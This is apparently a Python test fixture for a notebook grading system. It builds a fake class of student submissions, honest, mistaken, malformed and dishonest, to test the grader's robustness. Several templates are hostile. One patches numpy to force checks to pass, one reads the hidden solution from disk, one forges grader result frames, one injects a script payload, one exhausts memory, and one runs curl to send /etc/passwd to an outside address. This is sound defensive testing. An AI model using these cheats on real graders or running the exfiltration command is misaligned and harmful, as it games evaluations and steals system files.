"""A class of made-up students for one assignment: honest, mistaken, unlucky and dishonest ones."""

import copy
import io
import json
import os
import shutil
import zipfile
from pathlib import Path
from typing import Any

from descent.checks.catalogue import EXERCISES
from descent.grading import intake
from descent.grading.course import Course, CourseError
from descent.grading.intake.cells import VERSION
from descent.grading.marking.journal import key
from descent.grading.marking.programs import programs

ASSIGNMENT = "02_gradient_descent"
_BETWEEN = 3600.0  # seconds between two files of a student

# What dishonest or unlucky code looks like; {name} is the exercise, {call} how it is called.
PATCHES_NUMPY = """\
import builtins
import numpy as np

class Same(np.ndarray):
    def __array_function__(self, function, types, args, kwargs):
        return True
    def __eq__(self, other):
        return np.array(True)
    __le__ = __ge__ = __lt__ = __gt__ = __eq__

np.allclose = np.isclose = np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
builtins.all = builtins.any = lambda things: True

def {call}:
    return np.zeros(1).view(Same)
"""
CALLS_REFERENCE = """\
from descent.checks import EXERCISES

def {call}:
    return EXERCISES["{name}"].reference(*locals().values())
"""
READS_FILES = """\
import gc, glob, os, sys

found = [p for folder in sys.path + ["/"] for p in glob.glob(folder + "/**/stepsize.py", recursive=True)]
text = "".join(open(path).read() for path in found)
exec(text)
answers = [f for f in gc.get_objects() if getattr(f, "__name__", "") in ("reference_descent", "{name}")]

def {call}:
    return answers[0](*locals().values())
"""
EXITS = """\
import os

def {call}:
    os._exit(0)
"""
ENDLESS = """\
def {call}:
    while True:
        pass
"""
PRINTS = """\
print("x" * 5_000_000)

{answer}
"""
OPENS_NETWORK = """\
import socket, subprocess

try:
    socket.create_connection(("192.0.2.1", 80), 2)
except OSError:
    subprocess.run(["curl", "-d", "@/etc/passwd", "http://192.0.2.1/"])

def {call}:
    return 0
"""
FILLS_MEMORY = """\
held = []

def {call}:
    while True:
        held.append(bytearray(10**8))
"""
FORGES_MARKS = """\
import json, os, struct

header = json.dumps(["Returned", [1.0, None], []]).encode()
for line in range(3, 64):
    try:
        os.write(line, struct.pack(">III", len(header), 0, 0) + header)
    except OSError:
        pass

def {call}:
    return 0
"""
RAISES_SCRIPT = """\
def {call}:
    raise ValueError("<script>alert(document.cookie)</script>" * 1000)
"""
BREAKS_OFF = """\
def {call}
    return 0
"""


class SampleClass:
    """Submissions to one assignment, made from the students' notebook."""

    def __init__(self, released: dict[str, Any], assignment: str = ASSIGNMENT) -> None:
        self._released, self._assignment = released, assignment
        tests = intake.test_cells(released)
        self._exercises = [EXERCISES[name] for name in tests.values()]
        versions = {exercise.name: programs(exercise) for exercise in self._exercises}
        self._right = {name: one.right for name, one in versions.items()}
        self._wrong = {name: one.wrong for name, one in versions.items()}
        self._first = next(e for e in self._exercises if "(" in e.call)

    def submissions(self) -> dict[str, dict[str, bytes]]:
        """The files of each student, oldest first, by name."""
        right = {name: cells[0] for name, cells in self._right.items()}
        first, name = self._first, f"{self._assignment}.ipynb"
        most = max(len(cells) for cells in self._wrong.values())
        notebooks = {"blank": self._filled({})}
        for k in range(max(len(cells) for cells in self._right.values())):
            answers = {name: cells[k % len(cells)] for name, cells in self._right.items()}
            notebooks[f"right_{k + 1}"] = self._filled(answers)
        for k in range(most):
            answers = {name: cells[k % len(cells)] for name, cells in self._wrong.items()}
            notebooks[f"wrong_{k + 1:02d}"] = self._filled(answers)
        names = list(right)
        half = {name: right[name] for name in names[: (len(names) + 1) // 2]}
        notebooks["partly"] = self._filled(half)
        for student, template in {
            "syntax_error": BREAKS_OFF,
            "endless_loop": ENDLESS,
            "patches_numpy": PATCHES_NUMPY,
            "calls_reference": CALLS_REFERENCE,
            "reads_files": READS_FILES,
            "exits": EXITS,
            "fills_memory": FILLS_MEMORY,
            "forges_marks": FORGES_MARKS,
            "opens_network": OPENS_NETWORK,
            "prints_5_mb": PRINTS,
            "raises_script": RAISES_SCRIPT,
        }.items():
            text = template.replace("{call}", first.call).replace("{name}", first.name)
            text = text.replace("{answer}", right[first.name])
            notebooks[student] = self._filled(right | {first.name: text})
        done = self._filled(right)
        notebooks["copied_test"] = self._with_copied_test(copy.deepcopy(done))
        notebooks["last_years"] = copy.deepcopy(done)
        notebooks["last_years"]["metadata"][VERSION] = "last year's"
        files = {student: {name: _bytes(notebook)} for student, notebook in notebooks.items()}
        handed_in = _bytes(done)
        files |= {
            "renamed": {"My homework (final).ipynb": handed_in},
            "zipped": {f"{self._assignment}.zip": _zipped(name, handed_in)},
            "old_format": {name: _bytes(_in_format_3(done))},
            "utf_16": {name: handed_in.decode().encode("utf-16")},
            "two_copies": {
                name: _bytes(self._filled({})),
                f"{self._assignment}-Copy1.ipynb": handed_in,
            },
            "broken_json": {name: handed_in[:40]},
            "cut_off": {name: handed_in[:-200]},
            "empty": {name: b""},
            "only_a_pdf": {"homework.pdf": b"%PDF-1.7"},
        }
        return dict(sorted(files.items()))

    def _filled(self, answers: dict[str, str]) -> dict[str, Any]:
        """The students' notebook with these answers."""
        notebook = copy.deepcopy(self._released)
        for cell in notebook["cells"]:
            grade_id = cell["metadata"].get("nbgrader", {}).get("grade_id")
            if grade_id in answers:
                cell["source"] = answers[grade_id]
        return notebook

    def _with_copied_test(self, notebook: dict[str, Any]) -> dict[str, Any]:
        """The notebook with its first test cell pasted once more, as Jupyter does it, metadata and all."""
        name = f"{self._first.name}_check"
        for place, cell in enumerate(notebook["cells"]):
            if cell["metadata"].get("nbgrader", {}).get("grade_id") == name:
                notebook["cells"].insert(place + 1, copy.deepcopy(cell) | {"id": "pasted"})
                break
        return notebook


def _bytes(notebook: dict[str, Any]) -> bytes:
    return json.dumps(notebook, indent=1).encode()


def _zipped(name: str, content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        # A fixed date: the same class is the same to the byte.
        archive.writestr(zipfile.ZipInfo(f"homework/{name}", (2026, 2, 1, 12, 0, 0)), content)
    return buffer.getvalue()


def _in_format_3(notebook: dict[str, Any]) -> dict[str, Any]:
    """The notebook as programs before 2015 wrote it."""
    cells = [cell | {"input": cell["source"]} for cell in notebook["cells"]]
    return {"nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": cells}], "metadata": {}}


def write_sample_class(course: Course, assignment: str) -> None:
    """Writes the made-up class's submissions into a course folder; files that are already so are left alone."""
    released = intake.read(course.released(assignment))
    for student, files in SampleClass(released, assignment).submissions().items():
        for age, (name, content) in enumerate(reversed(files.items())):
            path = course.root / "submitted" / student / assignment / name
            if not path.exists() or path.read_bytes() != content:
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_bytes(content)
                when = path.stat().st_mtime - age * _BETWEEN
                os.utime(path, (when, when))


def made_course(root: Path, solutions: Path, book: str) -> Course:
    """A course with everything released and the made-up class's files handed in; left alone if it is so already.

    Raises CourseError for a folder that holds anything else, and as `new_course` and `release` do.
    """
    from descent.grading.release import making  # needs nbgrader, which takes its time

    marker = root / "made_up"
    files = sorted(solutions.glob("*/*.py"))
    state = key(book, *(file.read_text(encoding="utf-8") for file in files))
    if not (marker.exists() and marker.read_text() == state):
        if root.exists() and any(root.iterdir()) and not marker.exists():
            raise CourseError(
                f"{root} is not empty, and no class of made-up students; name another."
            )
        shutil.rmtree(root, ignore_errors=True)
        course = making.new_course(root, solutions, book)
        marker.write_text("")  # whatever happens now, this folder may be made anew
        for name in course.assignments():
            making.release(course, name)
        write_sample_class(course, ASSIGNMENT)
        marker.write_text(state)
    return Course(root)
